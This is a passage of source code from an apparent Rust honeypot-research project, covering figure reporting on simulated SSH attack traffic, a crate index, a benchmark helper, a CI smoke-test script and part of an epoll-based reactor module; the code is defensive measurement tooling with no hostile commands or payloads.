        .unwrap_or(1_000);
    let mut cfg = DriverConfig::default_scale(42);
    cfg.session_scale = scale;
    eprintln!("generating 33 months of honeynet traffic at 1:{scale}…");
    let t = std::time::Instant::now();
    let ds = generate_dataset(&cfg);
    eprintln!("{} sessions in {:?}\n", ds.sessions.len(), t.elapsed());

    let cl = Classifier::table1();

    // §3.3 statistics.
    let stats = TaxonomyStats::compute(&ds.sessions);
    print!("{}", report::render_dataset_stats(&stats, scale));

    // Fig. 1.
    println!();
    print!("{}", report::render_fig1(&report::fig1(&ds.sessions)));

    // Figs. 2, 3a, 3b.
    println!();
    print!(
        "{}",
        report::fig2(&ds.sessions, &cl).render("Fig 2: non-state-changing bots", 4)
    );
    println!();
    print!(
        "{}",
        report::fig3a(&ds.sessions, &cl).render("Fig 3a: file add/mod/del, no exec", 4)
    );
    println!();
    print!(
        "{}",
        report::fig3b(&ds.sessions, &cl).render("Fig 3b: file-exec attempts", 4)
    );

    // Fig. 4.
    let (exists, missing) = report::fig4(&ds.sessions, &cl);
    println!();
    print!("{}", exists.render("Fig 4a: exec, file exists", 3));
    println!();
    print!("{}", missing.render("Fig 4b: exec, file missing", 3));

    // Figs. 5 & 6 (clustering).
    println!();
    let ca = report::cluster_analysis(&ds.sessions, &ds.abuse, 90, 42);
    println!(
        "== Fig 5/6: clustering of {} signatures ({} sessions) into k={} ==",
        ca.signatures.len(),
        ca.weights.iter().sum::<u64>(),
        ca.clustering.k()
    );
    print!("{}", report::render_fig5(&ca, 10));
    println!("Top 5 clusters (Fig 6):");
    for (c, n) in ca.top_clusters(5) {
        println!(
            "  C-{} ({}) — {} sessions",
            ca.display_rank(c),
            ca.labels[c],
            n
        );
    }

    // Table 1 coverage.
    println!();
    let coverage = report::classification_coverage(&ds.sessions, &cl);
    println!(
        "Table 1 coverage: {:.2}% classified (paper: >99%)",
        coverage * 100.0
    );

    // §7 storage analyses.
    println!();
    let events = sa::download_events(&ds.sessions);
    let st = sa::storage_stats(&events, &ds.abuse);
    println!("== §7 malware storage ==");
    println!("download sessions: {}", st.download_sessions);
    println!(
        "storage != client: {:.0}% (paper: 80%)",
        st.different_ip_frac * 100.0
    );
    println!(
        "unique download clients: {} vs storage IPs: {} (paper: 32k vs 3k)",
        st.unique_download_clients, st.unique_storage_ips
    );
    println!(
        "storage IPs in abuse feeds: {:.0}% (paper: 56%)",
        st.storage_ip_reported_frac * 100.0
    );
    let census = sa::storage_as_census(&events, &ds.world.registry, cfg.window_end);
    println!(
        "storage ASes: {} (hosting {}, isp {}, down {}); <1y: {:.0}%, <5y: {:.0}% (paper: 388/358/30/36; >35%/>70%)",
        census.total,
        census.hosting,
        census.isp,
        census.down,
        census.younger_1y_frac * 100.0,
        census.younger_5y_frac * 100.0
    );

    println!("\n== Fig 7: Sankey client-AS-type → storage-AS-type ==");
    for f in sa::sankey_flows(&events, &ds.world.registry) {
        println!(
            "  {:>8} -> {:<8} {:>8} events ({} same-IP)",
            f.client_type.label(),
            f.storage_type.label(),
            f.events,
            f.same_ip
        );
    }

    println!("\n== Fig 8a: storage AS age (events / month, young|mid|old) ==");
    for (m, [y, mid, old]) in sa::as_age_by_month(&events, &ds.world.registry)
        .iter()
        .step_by(6)
    {
        println!("  {m}  <1y={y:<5} 1-5y={mid:<5} >5y={old}");
    }
    println!("\n== Fig 8b: storage AS size (one /24 | <50 | >=50) ==");
    for (m, [one, small, big]) in sa::as_size_by_month(&events, &ds.world.registry)
        .iter()
        .step_by(6)
    {
        println!("  {m}  one={one:<5} <50={small:<5} >=50={big}");
    }

    println!("\n== Fig 9: storage-IP activity days (1-week recall, sampled) ==");
    let ok_events = sa::successful_download_events(&ds.sessions);
    let rows = sa::reuse_buckets_by_week(&ok_events, 7, cfg.window_start, cfg.window_end);
    for (week, counts) in rows.iter().step_by(13) {
        let total: u64 = counts.iter().sum();
        if total == 0 {
            continue;
        }
        println!(
            "  {week}  <=1d: {:>3.0}%  <=4d: {:>3.0}%  <=1w: {:>3.0}%",
            100.0 * counts[0] as f64 / total as f64,
            100.0 * counts[1] as f64 / total as f64,
            100.0 * counts[2] as f64 / total as f64,
        );
    }
    println!(
        ">=6-month IP reappearance: {:.0}% (paper: ~25%)",
        sa::long_reappearance_frac(&ok_events) * 100.0
    );

    println!("\n== Fig 17: storage AS types over time ==");
    for (m, counts) in sa::as_type_by_month(&events, &ds.world.registry)
        .iter()
        .step_by(6)
    {
        println!(
            "  {m}  CDN={} Hosting={} ISP/NSP={} Other={}",
            counts[0], counts[1], counts[2], counts[3]
        );
    }

    // §8 logins.
    println!("\n== Fig 10: top-5 passwords ==");
    let top = logins::top_passwords(&ds.sessions, 5);
    for (i, pw) in top.passwords.iter().enumerate() {
        let total: u64 = top.by_month.values().map(|v| v[i]).sum();
        println!("  #{} {pw:<18} {total} sessions", i + 1);
    }
    let p3245 = logins::password_profile(&ds.sessions, "3245gs5662d34");
    println!(
        "3245gs5662d34: {} sessions from {} IPs, first seen {}, {:.0}% commandless (paper: 24M/125k/2022-12-08 18:00/100%)",
        p3245.sessions,
        p3245.unique_ips,
        p3245.first_seen.map(|t| t.label()).unwrap_or_default(),
        p3245.no_command_frac * 100.0
    );

    println!("\n== Fig 11: Cowrie default-credential probes ==");
    let probes = logins::cowrie_default_probes(&ds.sessions);
    let phil: u64 = probes.phil_success.values().sum();
    let richard: u64 = probes.richard_tries.values().sum();
    println!(
        "phil logins: {phil} from {} IPs ({:.0}% commandless); richard tries: {richard} (paper: ~30k phil / >10k IPs / >90%)",
        probes.phil_unique_ips,
        probes.phil_no_command_frac * 100.0
    );

    // §9 case study (summary; see case_study_mdrfckr example for detail).
    println!("\n== §9 mdrfckr summary ==");
    let tl = mdrfckr::timeline(&ds.sessions);
    let dips = mdrfckr::detect_dips(&tl, 0.12);
    println!(
        "sessions: {}, dips detected: {}, cred overlap: {:.1}%, killnet overlap: {}",
        tl.daily.values().map(|(n, _)| n).sum::<u64>(),
        dips.len(),
        mdrfckr::cred_overlap_frac(&ds.sessions) * 100.0,
        mdrfckr::killnet_overlap(&ds.sessions, &ds.killnet)
    );

    // Cluster-count diagnostics (the paper's elbow/silhouette story).
    println!("\n== cluster-count selection (WCSS / silhouette) ==");
    let file_sessions = report::cluster_analysis(&ds.sessions, &ds.abuse, 2, 42);
    let m = cluster::DistanceMatrix::build(&file_sessions.signatures);
    for (k, w, s) in cluster::sweep_k(&m, &file_sessions.weights, &[10, 30, 60, 90, 120], 42) {
        println!("  k={k:<4} wcss={w:>12.1} silhouette={s:.3}");
    }
}
