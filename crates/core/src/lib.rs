//! `honeylab-core` — the paper's analysis pipeline.
//!
//! Everything in *"Attacks Come to Those Who Wait"* between raw session
//! records and published figures lives here:
//!
//! * [`taxonomy`] — the §3.3 session taxonomy (scanning / scouting /
//!   intrusion / command execution) and dataset statistics.
//! * [`classify`] — the Table 1 command classifier: 58 regex categories
//!   plus `unknown`, evaluated in precedence order over each session's
//!   command text (>99 % coverage claim reproduced by tests).
//! * [`tokens`] — command tokenization for clustering (§6).
//! * [`intern`] — dense `u32` token interning feeding the clustering hot
//!   path (`Copy` compares instead of heap-`String` compares).
//! * [`dld`] — Damerau-Levenshtein distance over token sequences, with a
//!   scratch-reusing variant and an Ukkonen-banded early-exit variant.
//! * [`cluster`] — K-medoids over the token-DLD matrix with WCSS/elbow and
//!   silhouette diagnostics (paper: k = 90), plus family labelling via
//!   abuse-database cross-referencing. The matrix is interned, packed
//!   triangular, and built by an atomic-cursor tile scheduler; the
//!   pre-optimisation path survives as the [`cluster::naive`] oracle.
//! * [`storage_analysis`] — malware storage locations: client/storage AS
//!   types (Fig. 7/17), AS age and size (Fig. 8), IP reuse (Fig. 9).
//! * [`logins`] — password analysis (Fig. 10) and Cowrie-default
//!   fingerprinting (Fig. 11).
//! * [`mdrfckr`] — the §9 case study (Figs. 12/13, base64 payloads, C2 and
//!   Killnet overlaps).
//! * [`coverage`] — observed sensor-days from the generator's outage
//!   schedule, so time-series figures can separate measurement gaps from
//!   behavioural changes.
//! * [`report`] — figure/table data structures and text renderers; one
//!   entry point per paper artefact.
//! * [`analysis`] — the unified entry point: [`AnalysisBuilder`] runs any
//!   selection of the above reports in one streaming pass over a session
//!   source (in-memory slice, sessiondb store, or Cowrie log).
//! * [`api`] — the versioned `honeylab-api v1` JSON emitters shared by
//!   `analyze --format json`, the live HTTP endpoints, and `ServeReport`;
//!   gated by the `docs/api_v1` golden set.

pub mod analysis;
pub mod api;
pub mod classify;
pub mod cluster;
pub mod coverage;
pub mod dld;
pub mod intern;
pub mod logins;
pub mod mdrfckr;
pub mod report;
pub mod storage_analysis;
pub mod taxonomy;
pub mod tokens;

pub use analysis::{AnalysisBuilder, AnalysisError, AnalysisReport, ReportKind, SessionSource};
pub use classify::{Classifier, UNKNOWN_LABEL};
pub use coverage::{CoverageCalendar, MonthlyCoverage, COVERAGE_GAP_THRESHOLD};
pub use taxonomy::{SessionClass, TaxonomyStats};
