//! Vendored minimal stand-in for `criterion`.
//!
//! Implements the subset the benches use — `Criterion::bench_function`,
//! `benchmark_group` (with `sample_size`/`throughput`/`finish`), `Bencher::
//! iter` and the `criterion_group!`/`criterion_main!` macros — as a plain
//! timing loop: warm-up, then a fixed number of timed samples whose median
//! per-iteration time is printed. No statistics engine, no HTML reports,
//! but `cargo bench` produces comparable wall-clock numbers and the bench
//! targets compile and run offline.

use std::hint::black_box as std_black_box;
use std::time::{Duration, Instant};

/// Re-export so benches may use `criterion::black_box`.
pub fn black_box<T>(x: T) -> T {
    std_black_box(x)
}

/// Throughput annotation attached to a benchmark group (printed alongside
/// timings).
#[derive(Debug, Clone, Copy)]
pub enum Throughput {
    Bytes(u64),
    Elements(u64),
}

/// Drives one benchmark's measurement loop.
pub struct Bencher {
    samples: usize,
    /// Median per-iteration time of the timed samples.
    measured: Duration,
}

impl Bencher {
    pub fn iter<O, F: FnMut() -> O>(&mut self, mut routine: F) {
        // Warm-up: run until ~20ms has elapsed to settle caches/branches,
        // and learn how many iterations fit a sample.
        let warmup = Duration::from_millis(20);
        let start = Instant::now();
        let mut iters: u64 = 0;
        while start.elapsed() < warmup {
            std_black_box(routine());
            iters += 1;
        }
        let per_sample = iters.max(1);
        let mut times: Vec<Duration> = Vec::with_capacity(self.samples);
        for _ in 0..self.samples {
            let t0 = Instant::now();
            for _ in 0..per_sample {
                std_black_box(routine());
            }
            times.push(t0.elapsed() / per_sample as u32);
        }
        times.sort_unstable();
        self.measured = times[times.len() / 2];
    }
}

fn run_bench(
    name: &str,
    samples: usize,
    throughput: Option<Throughput>,
    f: &mut dyn FnMut(&mut Bencher),
) {
    let mut b = Bencher {
        samples,
        measured: Duration::ZERO,
    };
    f(&mut b);
    let per_iter = b.measured;
    let rate = match throughput {
        Some(Throughput::Bytes(n)) if per_iter > Duration::ZERO => {
            let bps = n as f64 / per_iter.as_secs_f64();
            format!("  {:.1} MiB/s", bps / (1024.0 * 1024.0))
        }
        Some(Throughput::Elements(n)) if per_iter > Duration::ZERO => {
            let eps = n as f64 / per_iter.as_secs_f64();
            format!("  {eps:.0} elem/s")
        }
        _ => String::new(),
    };
    println!("bench: {name:<48} {per_iter:>12.2?}/iter{rate}");
}

/// Top-level benchmark driver, mirroring `criterion::Criterion`.
#[derive(Debug)]
pub struct Criterion {
    sample_size: usize,
}

impl Default for Criterion {
    fn default() -> Self {
        Self { sample_size: 12 }
    }
}

impl Criterion {
    pub fn bench_function<F>(&mut self, name: impl Into<String>, mut f: F) -> &mut Self
    where
        F: FnMut(&mut Bencher),
    {
        run_bench(&name.into(), self.sample_size, None, &mut f);
        self
    }

    pub fn benchmark_group(&mut self, name: impl Into<String>) -> BenchmarkGroup<'_> {
        BenchmarkGroup {
            _parent: self,
            prefix: name.into(),
            sample_size: 12,
            throughput: None,
        }
    }
}

/// A named group of related benchmarks.
pub struct BenchmarkGroup<'a> {
    _parent: &'a mut Criterion,
    prefix: String,
    sample_size: usize,
    throughput: Option<Throughput>,
}

impl BenchmarkGroup<'_> {
    pub fn sample_size(&mut self, n: usize) -> &mut Self {
        self.sample_size = n.max(1);
        self
    }

    pub fn throughput(&mut self, t: Throughput) -> &mut Self {
        self.throughput = Some(t);
        self
    }

    pub fn bench_function<F>(&mut self, name: impl Into<String>, mut f: F) -> &mut Self
    where
        F: FnMut(&mut Bencher),
    {
        let full = format!("{}/{}", self.prefix, name.into());
        run_bench(&full, self.sample_size, self.throughput, &mut f);
        self
    }

    pub fn finish(self) {}
}

/// Collects benchmark functions into a single runner, mirroring criterion's
/// macro of the same name.
#[macro_export]
macro_rules! criterion_group {
    ($name:ident, $($target:path),+ $(,)?) => {
        pub fn $name() {
            let mut c = $crate::Criterion::default();
            $( $target(&mut c); )+
        }
    };
}

/// Entry point for a `harness = false` bench target.
#[macro_export]
macro_rules! criterion_main {
    ($($group:path),+ $(,)?) => {
        fn main() {
            $( $group(); )+
        }
    };
}

#[cfg(test)]
mod tests {
    use super::*;

    fn trivial(c: &mut Criterion) {
        c.bench_function("noop", |b| b.iter(|| black_box(1u64 + 1)));
        let mut g = c.benchmark_group("grouped");
        g.sample_size(3);
        g.throughput(Throughput::Bytes(64));
        g.bench_function("sum", |b| b.iter(|| (0u64..64).sum::<u64>()));
        g.finish();
    }

    criterion_group!(smoke, trivial);

    #[test]
    fn macros_and_loop_run() {
        smoke();
    }
}
