#!/usr/bin/env bash
# Tier-1 gate: everything that must stay green on every commit.
# Run from the repository root: ./scripts/tier1.sh
set -euo pipefail
cd "$(dirname "$0")/.."

echo "== tier1: rustfmt =="
cargo fmt --all --check

echo "== tier1: release build =="
cargo build --release

echo "== tier1: tests =="
cargo test -q --workspace

echo "== tier1: clippy (deny warnings) =="
cargo clippy --all-targets --workspace -- -D warnings

echo "== tier1: cluster bench smoke (equivalence gate, tiny corpus) =="
cargo bench -p honeylab-bench --bench cluster -- --smoke

echo "== tier1: sessiondb smoke (generate -> analyze) =="
smoke="$(mktemp -d)/smoke.hsdb"
trap 'rm -rf "$(dirname "$smoke")"' EXIT
./target/release/honeylab generate --scale 60000 --seed 5 \
    --out-format sessiondb --out "$smoke"
./target/release/honeylab analyze "$smoke" > /dev/null

echo "== tier1: crash-recovery smoke (serve -> kill -9 -> recover) =="
crash_dir="$(mktemp -d)"
crash_store="$crash_dir/crash.hsdb"
crash_log="$crash_dir/serve.log"
# Hold stdin open (via a FIFO the script keeps a writer on) so the
# server does not drain early; SIGKILL is the only way this instance
# ever exits. A FIFO rather than `sleep N |` keeps the server out of a
# pipeline job, so `wait` below reaps it the moment it dies instead of
# stalling on the stdin-holder.
mkfifo "$crash_dir/stdin"
./target/release/honeylab serve --ssh-port 0 --stats-secs 0 \
    --fsync-every 1 --store "$crash_store" \
    < "$crash_dir/stdin" 2> "$crash_log" &
serve_pid=$!
exec 8> "$crash_dir/stdin"
for _ in $(seq 1 100); do
    grep -q 'listening ssh on ' "$crash_log" && break
    sleep 0.1
done
addr="$(sed -n 's/^listening ssh on //p' "$crash_log" | head -1)"
[ -n "$addr" ] || { echo "serve never came up"; cat "$crash_log"; exit 1; }
./target/release/honeylab probe "$addr" --count 5
# Wait until every acknowledged session is durable (WAL-framed with
# fsync-every 1), then kill the server without any chance to clean up.
for _ in $(seq 1 100); do
    ./target/release/honeylab recover "$crash_store" --dry-run 2>&1 \
        | grep -q 'wal: 5 frame(s) replayable' && break
    sleep 0.1
done
kill -9 "$serve_pid"
wait "$serve_pid" 2> /dev/null || true
exec 8>&-
recover_out="$(./target/release/honeylab recover "$crash_store" 2>&1)"
echo "$recover_out"
echo "$recover_out" | grep -q 'recovered' \
    || { echo "recovery found nothing to replay"; exit 1; }
echo "$recover_out" | grep -Eq 'store: [1-9][0-9]* sessions .* CRCs intact' \
    || { echo "recovered store failed CRC verification"; exit 1; }
./target/release/honeylab analyze "$crash_store" > /dev/null
rm -rf "$crash_dir"

echo "== tier1: api schema goldens =="
./scripts/check_api_schema.sh

echo "== tier1: http observability smoke (serve -> curl -> SIGINT) =="
http_dir="$(mktemp -d)"
http_store="$http_dir/http.hsdb"
http_log="$http_dir/serve.log"
# Hold stdin open via a FIFO: the server treats stdin EOF as a shutdown
# request, and we want SIGINT (not a closed pipe) to end this instance.
# (Not `sleep N |`: a pipeline would make `wait` below stall on the
# stdin-holder long after the server has exited.)
mkfifo "$http_dir/stdin"
./target/release/honeylab serve --ssh-port 0 --http-port 0 \
    --stats-secs 0 --store "$http_store" \
    < "$http_dir/stdin" 2> "$http_log" &
http_pid=$!
exec 9> "$http_dir/stdin"
for _ in $(seq 1 100); do
    grep -q 'listening http on ' "$http_log" && break
    sleep 0.1
done
http_addr="$(sed -n 's/^listening http on \([0-9.:]*\) .*/\1/p' "$http_log" | head -1)"
ssh_addr="$(sed -n 's/^listening ssh on //p' "$http_log" | head -1)"
[ -n "$http_addr" ] || { echo "http plane never came up"; cat "$http_log"; exit 1; }
curl -fsS "http://$http_addr/api/health" | grep -q '"honeylab_api": "v1"' \
    || { echo "/api/health is not a v1 envelope"; exit 1; }
./target/release/honeylab probe "$ssh_addr" --count 3
for _ in $(seq 1 100); do
    curl -fsS "http://$http_addr/api/stats" | grep -q '"total_sessions": 3' && break
    sleep 0.1
done
curl -fsS "http://$http_addr/api/stats" | grep -q '"total_sessions": 3' \
    || { echo "/api/stats never reflected the probe sessions"; exit 1; }
curl -fsS "http://$http_addr/api/sessions/recent" | grep -q '"kind": "sessions_recent"' \
    || { echo "/api/sessions/recent missing"; exit 1; }
kill -INT "$http_pid"
exec 9>&-
if ! wait "$http_pid"; then
    echo "serve did not exit cleanly after SIGINT"
    cat "$http_log"
    exit 1
fi
grep -q 'final: ' "$http_log" || { echo "serve report missing"; exit 1; }
rm -rf "$http_dir"

echo "== tier1: barrage smoke (serve <- barrage; live stats == analyze) =="
bar_dir="$(mktemp -d)"
bar_store="$bar_dir/barrage.hsdb"
bar_log="$bar_dir/serve.log"
# Same FIFO trick as above: SIGINT (not stdin EOF) ends this instance.
mkfifo "$bar_dir/stdin"
./target/release/honeylab serve --ssh-port 0 --http-port 0 \
    --stats-secs 0 --store "$bar_store" \
    < "$bar_dir/stdin" 2> "$bar_log" &
bar_pid=$!
exec 7> "$bar_dir/stdin"
for _ in $(seq 1 100); do
    grep -q 'listening http on ' "$bar_log" && break
    sleep 0.1
done
bar_http="$(sed -n 's/^listening http on \([0-9.:]*\) .*/\1/p' "$bar_log" | head -1)"
bar_ssh="$(sed -n 's/^listening ssh on //p' "$bar_log" | head -1)"
[ -n "$bar_ssh" ] || { echo "serve never came up"; cat "$bar_log"; exit 1; }
bar_json="$(./target/release/honeylab barrage "$bar_ssh" \
    --sessions 200 --concurrency 16 --format json)"
echo "$bar_json" | jq -e \
    '.data.shed == 0 and .data.errors == 0 and .data.completed == .data.planned' \
    > /dev/null \
    || { echo "barrage shed or errored under smoke load"; echo "$bar_json"; exit 1; }
# The live taxonomy must converge to exactly what post-hoc analysis of
# the sealed store reports — same accumulator, two paths.
for _ in $(seq 1 100); do
    [ "$(curl -fsS "http://$bar_http/api/stats" \
        | jq '.data.taxonomy.total_sessions')" = "200" ] && break
    sleep 0.1
done
live_tax="$(curl -fsS "http://$bar_http/api/stats" | jq -S '.data.taxonomy')"
kill -INT "$bar_pid"
exec 7>&-
wait "$bar_pid" || { echo "serve did not exit cleanly"; cat "$bar_log"; exit 1; }
batch_tax="$(./target/release/honeylab analyze "$bar_store" \
    --report taxonomy --format json | jq -S '.data.taxonomy')"
if [ "$live_tax" != "$batch_tax" ]; then
    echo "live /api/stats taxonomy drifted from post-hoc analyze:"
    diff <(echo "$live_tax") <(echo "$batch_tax") || true
    exit 1
fi
rm -rf "$bar_dir"

echo "== tier1: serve bench smoke (reactor + polled, zero shed) =="
cargo bench -p honeylab-bench --bench serve -- --smoke

echo "== tier1: OK =="
