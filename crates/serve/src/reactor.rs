//! Readiness-driven reactor primitives: a dependency-free poller
//! (epoll on Linux, poll(2) on other unixes), an eventfd-style waker, a
//! lock-free bounded intake queue, a coarse timer wheel, and an
//! adaptive backoff for the paths that still have to wait.
//!
//! Like [`crate::signal`], the OS surface is a tiny hand-declared FFI
//! shim — no libc crate, no mio. Everything here is allocation-light on
//! the hot path: `epoll_wait` returns only ready fds, the intake queue
//! is a Vyukov bounded MPMC ring (two accept threads may feed one
//! shard), and timers amortize to O(1) per tick via hashed wheel slots.

use std::collections::HashMap;
use std::io;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::time::{Duration, Instant};

/// What a registration wants to hear about.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Interest {
    /// Wake when the fd is readable (or hung up / errored).
    pub readable: bool,
    /// Wake when the fd is writable.
    pub writable: bool,
}

impl Interest {
    /// Read-only interest — the steady state of an idle connection.
    pub const READ: Interest = Interest {
        readable: true,
        writable: false,
    };
    /// Read+write interest — armed while output is queued.
    pub const READ_WRITE: Interest = Interest {
        readable: true,
        writable: true,
    };
}

/// One readiness event out of [`Poller::wait`]. Error/hangup conditions
/// are folded into `readable`: the next pump discovers the EOF or the
/// socket error itself, which is the same path a clean close takes.
#[derive(Debug, Clone, Copy)]
pub struct Event {
    /// The token the fd was registered under.
    pub token: u64,
    /// Readable, hung up, or errored.
    pub readable: bool,
    /// Writable.
    pub writable: bool,
}

// ---------------------------------------------------------------------------
// Linux: epoll via raw FFI (mirroring the `serve::signal` shim).
// ---------------------------------------------------------------------------

#[cfg(target_os = "linux")]
mod sys {
    use super::{Event, Interest};
    use std::io;

    const EPOLL_CLOEXEC: i32 = 0o200_0000;
    const EPOLL_CTL_ADD: i32 = 1;
    const EPOLL_CTL_DEL: i32 = 2;
    const EPOLL_CTL_MOD: i32 = 3;
    const EPOLLIN: u32 = 0x001;
    const EPOLLOUT: u32 = 0x004;
    const EPOLLERR: u32 = 0x008;
    const EPOLLHUP: u32 = 0x010;
    const EPOLLRDHUP: u32 = 0x2000;

    /// The kernel's `struct epoll_event`. Packed on x86-64 (the kernel
    /// ABI really is unaligned there), naturally aligned elsewhere.
    #[cfg_attr(target_arch = "x86_64", repr(C, packed))]
    #[cfg_attr(not(target_arch = "x86_64"), repr(C))]
    #[derive(Clone, Copy)]
    struct EpollEvent {
        events: u32,
        data: u64,
    }

    extern "C" {
        fn epoll_create1(flags: i32) -> i32;
        fn epoll_ctl(epfd: i32, op: i32, fd: i32, event: *mut EpollEvent) -> i32;
        fn epoll_wait(epfd: i32, events: *mut EpollEvent, maxevents: i32, timeout: i32) -> i32;
        fn close(fd: i32) -> i32;
    }

    fn mask(interest: Interest) -> u32 {
        let mut m = EPOLLRDHUP;
        if interest.readable {
            m |= EPOLLIN;
        }
        if interest.writable {
            m |= EPOLLOUT;
        }
        m
    }

    /// An epoll instance. Registration is O(1) in the kernel; `wait`
    /// returns only ready fds, so an idle shard costs nothing per
    /// connection.
    pub struct Poller {
        epfd: i32,
        buf: Vec<EpollEvent>,
    }

    impl Poller {
        pub fn new() -> io::Result<Poller> {
            let epfd = unsafe { epoll_create1(EPOLL_CLOEXEC) };
            if epfd < 0 {
                return Err(io::Error::last_os_error());
            }
            Ok(Poller {
                epfd,
                buf: vec![EpollEvent { events: 0, data: 0 }; 256],
            })
        }

        fn ctl(&self, op: i32, fd: i32, interest: Interest, token: u64) -> io::Result<()> {
            let mut ev = EpollEvent {
                events: mask(interest),
                data: token,
            };
            if unsafe { epoll_ctl(self.epfd, op, fd, &mut ev) } < 0 {
                return Err(io::Error::last_os_error());
            }
            Ok(())
        }

        pub fn register(&mut self, fd: i32, token: u64, interest: Interest) -> io::Result<()> {
            self.ctl(EPOLL_CTL_ADD, fd, interest, token)
        }

        pub fn reregister(&mut self, fd: i32, token: u64, interest: Interest) -> io::Result<()> {
            self.ctl(EPOLL_CTL_MOD, fd, interest, token)
        }

        pub fn deregister(&mut self, fd: i32) -> io::Result<()> {
            let mut ev = EpollEvent { events: 0, data: 0 };
            if unsafe { epoll_ctl(self.epfd, EPOLL_CTL_DEL, fd, &mut ev) } < 0 {
                return Err(io::Error::last_os_error());
            }
            Ok(())
        }

        pub fn wait(&mut self, timeout: super::Duration, out: &mut Vec<Event>) -> io::Result<()> {
            out.clear();
            let ms = timeout.as_millis().min(i32::MAX as u128) as i32;
            let n =
                unsafe { epoll_wait(self.epfd, self.buf.as_mut_ptr(), self.buf.len() as i32, ms) };
            if n < 0 {
                let err = io::Error::last_os_error();
                if err.kind() == io::ErrorKind::Interrupted {
                    return Ok(());
                }
                return Err(err);
            }
            for ev in &self.buf[..n as usize] {
                let bits = ev.events;
                out.push(Event {
                    token: ev.data,
                    readable: bits & (EPOLLIN | EPOLLERR | EPOLLHUP | EPOLLRDHUP) != 0,
                    writable: bits & EPOLLOUT != 0,
                });
            }
            if n as usize == self.buf.len() {
                // Saturated the event buffer: grow so a burst does not
                // take multiple wait calls to observe.
                let len = self.buf.len() * 2;
                self.buf.resize(len, EpollEvent { events: 0, data: 0 });
            }
            Ok(())
        }
    }

    impl Drop for Poller {
        fn drop(&mut self) {
            unsafe {
                close(self.epfd);
            }
        }
    }
}

// ---------------------------------------------------------------------------
// Other unixes: poll(2). O(n) per wait, but still readiness-driven —
// no per-connection naps, and the same Poller surface.
// ---------------------------------------------------------------------------

#[cfg(all(unix, not(target_os = "linux")))]
mod sys {
    use super::{Event, Interest};
    use std::collections::HashMap;
    use std::io;

    const POLLIN: i16 = 0x001;
    const POLLOUT: i16 = 0x004;
    const POLLERR: i16 = 0x008;
    const POLLHUP: i16 = 0x010;

    #[repr(C)]
    #[derive(Clone, Copy)]
    struct Pollfd {
        fd: i32,
        events: i16,
        revents: i16,
    }

    extern "C" {
        fn poll(fds: *mut Pollfd, nfds: u32, timeout: i32) -> i32;
    }

    fn mask(interest: Interest) -> i16 {
        let mut m = 0;
        if interest.readable {
            m |= POLLIN;
        }
        if interest.writable {
            m |= POLLOUT;
        }
        m
    }

    pub struct Poller {
        fds: Vec<Pollfd>,
        tokens: Vec<u64>,
        index: HashMap<i32, usize>,
    }

    impl Poller {
        pub fn new() -> io::Result<Poller> {
            Ok(Poller {
                fds: Vec::new(),
                tokens: Vec::new(),
                index: HashMap::new(),
            })
        }

        pub fn register(&mut self, fd: i32, token: u64, interest: Interest) -> io::Result<()> {
            if self.index.contains_key(&fd) {
                return Err(io::Error::new(
                    io::ErrorKind::AlreadyExists,
                    "fd registered",
                ));
            }
            self.index.insert(fd, self.fds.len());
            self.fds.push(Pollfd {
                fd,
                events: mask(interest),
                revents: 0,
            });
            self.tokens.push(token);
            Ok(())
        }

        pub fn reregister(&mut self, fd: i32, token: u64, interest: Interest) -> io::Result<()> {
            let &i = self
                .index
                .get(&fd)
                .ok_or_else(|| io::Error::new(io::ErrorKind::NotFound, "fd not registered"))?;
            self.fds[i].events = mask(interest);
            self.tokens[i] = token;
            Ok(())
        }

        pub fn deregister(&mut self, fd: i32) -> io::Result<()> {
            let i = self
                .index
                .remove(&fd)
                .ok_or_else(|| io::Error::new(io::ErrorKind::NotFound, "fd not registered"))?;
            self.fds.swap_remove(i);
            self.tokens.swap_remove(i);
            if i < self.fds.len() {
                self.index.insert(self.fds[i].fd, i);
            }
            Ok(())
        }

        pub fn wait(&mut self, timeout: super::Duration, out: &mut Vec<Event>) -> io::Result<()> {
            out.clear();
            let ms = timeout.as_millis().min(i32::MAX as u128) as i32;
            let n = unsafe { poll(self.fds.as_mut_ptr(), self.fds.len() as u32, ms) };
            if n < 0 {
                let err = io::Error::last_os_error();
                if err.kind() == io::ErrorKind::Interrupted {
                    return Ok(());
                }
                return Err(err);
            }
            for (pfd, &token) in self.fds.iter().zip(&self.tokens) {
                let bits = pfd.revents;
                if bits == 0 {
                    continue;
                }
                out.push(Event {
                    token,
                    readable: bits & (POLLIN | POLLERR | POLLHUP) != 0,
                    writable: bits & POLLOUT != 0,
                });
            }
            Ok(())
        }
    }
}

// ---------------------------------------------------------------------------
// Non-unix: no readiness API without a dependency. The server falls
// back to the polled engine there; constructing a Poller reports
// Unsupported so callers can make that choice at runtime.
// ---------------------------------------------------------------------------

#[cfg(not(unix))]
mod sys {
    use super::{Event, Interest};
    use std::io;

    pub struct Poller;

    impl Poller {
        pub fn new() -> io::Result<Poller> {
            Err(io::Error::new(
                io::ErrorKind::Unsupported,
                "no readiness API on this platform",
            ))
        }

        pub fn register(&mut self, _fd: i32, _token: u64, _interest: Interest) -> io::Result<()> {
            unreachable!("Poller::new never succeeds off unix")
        }

        pub fn reregister(&mut self, _fd: i32, _token: u64, _interest: Interest) -> io::Result<()> {
            unreachable!("Poller::new never succeeds off unix")
        }

        pub fn deregister(&mut self, _fd: i32) -> io::Result<()> {
            unreachable!("Poller::new never succeeds off unix")
        }

        pub fn wait(&mut self, _timeout: super::Duration, _out: &mut Vec<Event>) -> io::Result<()> {
            unreachable!("Poller::new never succeeds off unix")
        }
    }
}

pub use sys::Poller;

/// Whether this build has a real readiness backend.
pub fn poller_supported() -> bool {
    cfg!(unix)
}

// ---------------------------------------------------------------------------
// Waker: cross-thread wakeup for a poller blocked in wait().
// ---------------------------------------------------------------------------

/// Wakes a poller blocked in [`Poller::wait`] from another thread. On
/// Linux this is an eventfd (one fd, one syscall per wake); on other
/// unixes a socketpair. The read side registers under
/// [`Waker::TOKEN`]; [`Waker::drain`] must run when that token fires,
/// or a level-triggered poller spins.
pub struct Waker {
    inner: waker_impl::WakerImpl,
    /// Collapses redundant wakes: producers only write the fd when the
    /// flag was clear, so a storm of pushes costs one syscall.
    armed: AtomicBool,
}

/// Token the waker's read side registers under — disjoint from slab
/// indices, which count up from 0.
impl Waker {
    /// Reserved token for the waker fd.
    pub const TOKEN: u64 = u64::MAX;

    /// Creates a waker pair (read side + write side in one object).
